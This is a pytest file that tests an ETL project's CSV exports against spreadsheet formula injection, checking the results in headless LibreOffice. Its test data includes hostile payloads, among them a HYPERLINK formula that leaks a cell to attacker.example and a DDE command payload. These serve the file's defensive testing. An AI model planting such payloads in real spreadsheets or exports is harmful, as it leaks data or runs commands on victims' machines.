"""The CSVs are safe in a spreadsheet: a text cell that would run as a formula is written
as text (a leading apostrophe, OWASP's CSV injection guard); numbers stay numbers; the
Parquet files stay exact. Checked with a real spreadsheet: LibreOffice, headless."""

from __future__ import annotations

import csv
import html
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from idf_etl.warehouse.export import _csv_expression, export_tables
from idf_etl.warehouse.formulas import runs_as_formula
from idf_etl.warehouse.schema import create_schema
from tests.helpers.cli import clean_env
from tests.pipeline.test_pipeline import edit, idf, run

ARMENIA = "/project/migration-socio-economic-development-armenia-georgia"
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"Details")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=cmd|' /C calc'!A0",
]
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")


def _warehouse(path: Path, titles: list[str]) -> duckdb.DuckDBPyConnection:
    con = duckdb.connect(str(path))
    create_schema(con)
    for n, title in enumerate(titles):
        con.execute(
            """INSERT INTO projects BY NAME SELECT ? AS project_key, ? AS title,
                   ?::DECIMAL(18,2) AS budget_usd, now() AS first_seen,
                   now() AS last_changed, false AS missing_from_site""",
            [f"XX.{n:04d}", title, -5 - n],
        )
    return con


def _column_letters(index: int) -> str:
    """0 -> A, 25 -> Z, 26 -> AA: a spreadsheet's name for a column."""
    return ("" if index < 26 else _column_letters(index // 26 - 1)) + chr(ord("A") + index % 26)


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_a_title_that_would_run_as_a_formula_is_written_as_text(tmp_path):
    con = _warehouse(tmp_path / "w.duckdb", [*HOSTILE, "Plain title", "Kosovo - returns"])
    release = export_tables(con, tmp_path / "release")
    rows = {r["project_key"]: r for r in _csv_rows(release / "csv" / "projects.csv")}
    # No byte-order mark (docs/warehouse.md): read as UTF-8, the first name is project_key.
    assert not (release / "csv" / "projects.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    titles = [rows[f"XX.{n:04d}"]["title"] for n in range(len(HOSTILE) + 2)]
    assert titles[: len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert titles[len(HOSTILE) :] == ["Plain title", "Kosovo - returns"]  # untouched
    # Numbers are never guarded: a negative budget is a number for programs.
    assert rows["XX.0000"]["budget_usd"] == "-5.00"
    # The Parquet files are exact.
    exact = con.execute(
        "SELECT title FROM read_parquet(?) ORDER BY project_key",
        [str(release / "parquet" / "projects.parquet")],
    ).fetchall()
    assert [t for (t,) in exact][: len(HOSTILE)] == HOSTILE


# Written by hand from OWASP's list, ASVS 1.2.10 and what LibreOffice runs (it skips a
# leading NUL): each must reach a spreadsheet as text. Then texts that must stay as they are.
MUST_GUARD = [
    *HOSTILE,
    "\n=1+1", "\x00=1+1", "\x0b=1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003=1+1", "\u2028=1+1",
    "\ufeff=1+1", "\u200b=1+1", "\u00ad=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1",
    "−1+1", "\tplain", "\x00",
]  # fmt: skip
MUST_STAY = ["Kosovo - returns", "1+1", "", "  ", "a=b", "abc\n=1+1", "'=already quoted", "‐1"]
# Drawn texts lean on the characters that matter: formula starts, invisible ones, controls.
EDGES = st.sampled_from(list("=+-@＝＋－＠﹦−'\t\r\n\x00 \u00a0\u200b\ufeff\u3000\u2028x1"))


def _guarded(texts: list[str]) -> list[str]:
    con = duckdb.connect()
    con.execute("CREATE TABLE t (i INTEGER, t VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?, ?)", list(enumerate(texts)))
    return [
        g
        for (g,) in con.execute(
            f"SELECT {_csv_expression('t', 'VARCHAR')} FROM t ORDER BY i"
        ).fetchall()
    ]


def test_every_kind_of_formula_start_is_guarded_and_nothing_else():
    assert _guarded(MUST_GUARD) == ["'" + t for t in MUST_GUARD]
    assert _guarded(MUST_STAY) == MUST_STAY


@settings(max_examples=300, deadline=None)
# No lone surrogates (Cs): no text in the warehouse holds one (DuckDB cannot store it, and
# HTML's parser reads "&#xD800;" as U+FFFD), and '\ud800' failed DuckDB's encoding, not the guard.
@given(
    st.lists(st.one_of(EDGES, st.characters(exclude_categories=("Cs",))), max_size=8).map("".join)
)
def test_any_text_cell_is_itself_or_itself_marked_as_text(text):
    # The CSV writer's SQL and runs_as_formula (report.html's guard) are one rule.
    [got] = _guarded([text])
    assert got == ("'" + text if runs_as_formula(text) else text)
    assert not runs_as_formula(got) and not got.startswith(FORMULA_CHARS)


# -- a real spreadsheet -----------------------------------------------------------------


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.skip(
            "LibreOffice (soffice) is not installed: `make spreadsheet` installs Debian's "
            "libreoffice-calc-nogui; CI runs it"
        )
    return found


def _open_in_calc(csv_file: Path, out: Path, *how: str) -> dict[str, tuple[str | None, bool, str]]:
    """The CSV opened by LibreOffice Calc with its default import (or `how`, e.g. an
    --infilter) and saved as xlsx: each cell of the first sheet as (type attribute, holds
    a formula, value)."""
    out.mkdir(exist_ok=True)
    done = subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation=file://{out.absolute() / 'profile'}",
            "--headless",
            *how,
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(csv_file),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    xlsx = out / (csv_file.stem + ".xlsx")
    assert xlsx.exists(), done.stdout + done.stderr
    with zipfile.ZipFile(xlsx) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        shared = (
            book.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in (book.namelist())
            else ""
        )
    strings = [
        html.unescape(re.sub(r"<[^>]+>", "", s))
        for s in re.findall(r"<si>(.*?)</si>", shared, flags=re.S)
    ]
    cells = {}
    for ref, attrs, body in re.findall(r'<c r="([A-Z]+\d+)"([^>]*)>(.*?)</c>', sheet, re.S):
        kind = m[1] if (m := re.search(r't="(\w+)"', attrs)) else None
        value = m[1] if (m := re.search(r"<v>(.*?)</v>", body, re.S)) else ""
        if kind == "s":
            value = strings[int(value)]
        value = html.unescape(value)
        cells[ref] = (kind, "<f" in body, value)
    return cells


@pytest.mark.slow
def test_libreoffice_runs_an_unguarded_formula_so_the_check_can_fail(tmp_path):
    plain = tmp_path / "plain.csv"
    plain.write_text("title,n\n=1+1,3\n")
    cells = _open_in_calc(plain, tmp_path / "out")
    assert cells["A2"][1], cells  # LibreOffice's default CSV import makes it a formula


@pytest.mark.slow
def test_libreoffice_opens_the_exported_csv_and_runs_no_formula(tmp_path):
    con = _warehouse(tmp_path / "w.duckdb", HOSTILE)
    release = export_tables(con, tmp_path / "release")
    projects = release / "csv" / "projects.csv"
    header = next(csv.reader(projects.open(encoding="utf-8")))
    title = chr(ord("A") + header.index("title"))
    budget = chr(ord("A") + header.index("budget_usd"))

    cells = _open_in_calc(projects, tmp_path / "out")

    assert not [ref for ref, (_k, formula, _v) in cells.items() if formula]
    for row in range(2, len(HOSTILE) + 2):
        kind, _, value = cells[f"{title}{row}"]
        assert kind in ("s", "str", "inlineStr"), (row, cells[f"{title}{row}"])
        assert value.startswith("'") and value[1:].strip() == HOSTILE[row - 2].strip(), value
        # ...and the budget is a number Calc can add up, negative sign and all.
        kind, _, value = cells[f"{budget}{row}"]
        assert kind in (None, "n") and float(value) == -5 - (row - 2)


@pytest.mark.slow
def test_a_title_on_the_site_reaches_the_csv_as_text(demo_site, tmp_path):
    site, base = demo_site
    data = tmp_path / "data"
    title = "Migration for Socio-Economic Development in Armenia and Georgia"
    attack = '=HYPERLINK("http://attacker.example/?leak="&amp;A2,"Details")'
    edit(site, ARMENIA, f"<h1>{title}</h1>", f"<h1>{attack}</h1>")
    proc, summary = run(base, data, check=False)
    assert summary["outcome"] == "success", proc.stderr[-2000:]
    rows = _csv_rows(data / "clean" / "csv" / "projects.csv")
    titles = [r["title"] for r in rows if "HYPERLINK" in r["title"]]
    assert titles == ["'" + attack.replace("&amp;", "&")]
    cells = _open_in_calc(data / "clean" / "csv" / "projects.csv", tmp_path / "out")
    assert not [ref for ref, (_k, formula, _v) in cells.items() if formula]
    # report.html's tables show the title too; Calc opens an HTML page as a sheet.
    report = tmp_path / "report.html"
    made = idf("report", "--out", str(report), data_dir=data, check=False)
    assert made.returncode == 0, made.stderr[-2000:]
    cells = _open_in_calc(report, tmp_path / "out-report", "--infilter=HTML (StarCalc)")
    shown = [v for (_k, _f, v) in cells.values() if "HYPERLINK" in v]
    assert shown and all(v.startswith("\u2060=HYPERLINK") for v in shown), shown
    assert not [ref for ref, (_k, formula, _v) in cells.items() if formula]


@pytest.mark.slow
def test_libreoffice_opens_an_sql_csv_answer_and_runs_no_formula(published, tmp_path):
    # One rule for every CSV we write: `idf-etl sql --csv` goes through the exports' writer.
    data, _, _ = published
    texts = [t for t in MUST_GUARD if "\x00" not in t] + ["\x00=1+1"]
    cells = ", ".join(
        "concat(" + ", ".join(f"chr({ord(c)})" for c in text) + f") AS c{n}"
        for n, text in enumerate(texts)
    )
    query = (
        f"SELECT {cells}, INTERVAL '-1 day' AS span, -5.25::DECIMAL(18,2) AS budget, "
        "'=1+1'::ENUM('=1+1', 'b') AS kind, (SELECT min(title) FROM projects) AS title"
    )
    answer = sql_csv(data, query, tmp_path / "answer.csv")
    [row] = _csv_rows(answer)
    assert [row[f"c{n}"] for n in range(len(texts))] == ["'" + t for t in texts]

    cells_in_calc = _open_in_calc(answer, tmp_path / "out")

    assert not [ref for ref, (_k, formula, _v) in cells_in_calc.items() if formula], cells_in_calc
    header = next(csv.reader(answer.open(encoding="utf-8")))
    column = {name: _column_letters(i) for i, name in enumerate(header)}
    assert cells_in_calc[f"{column['budget']}2"][0] in (None, "n")  # still a number
    assert float(cells_in_calc[f"{column['budget']}2"][2]) == -5.25
    assert cells_in_calc[f"{column['span']}2"][2].startswith("'")
    assert cells_in_calc[f"{column['kind']}2"][2] == "'=1+1"


def sql_csv(data: Path, query: str, out: Path) -> Path:
    """`idf-etl sql --csv` into `out`, as bytes, as a shell redirect writes them (text mode
    would turn the CR in a cell to LF)."""
    proc = subprocess.run(
        [sys.executable, "-m", "idf_etl", "sql", "--csv", query, "--data-dir", str(data)],
        capture_output=True,
        timeout=120,
        env=clean_env(),
        cwd=out.parent,
    )
    assert proc.returncode == 0, proc.stderr
    out.write_bytes(proc.stdout)
    return out


@pytest.mark.slow
def test_a_header_made_from_data_is_guarded_too(published, tmp_path):
    # PIVOT names columns after values: here a title a spreadsheet would run.
    data, _, _ = published
    query = "PIVOT (SELECT '=1+1' AS k, 1 AS v UNION ALL SELECT 'plain', 2) ON k USING sum(v)"
    answer = sql_csv(data, query, tmp_path / "pivot.csv")
    assert answer.read_bytes().splitlines()[0] == b"'=1+1,plain"
    cells = _open_in_calc(answer, tmp_path / "out")
    assert cells["A1"][2] == "'=1+1" and not cells["A1"][1]
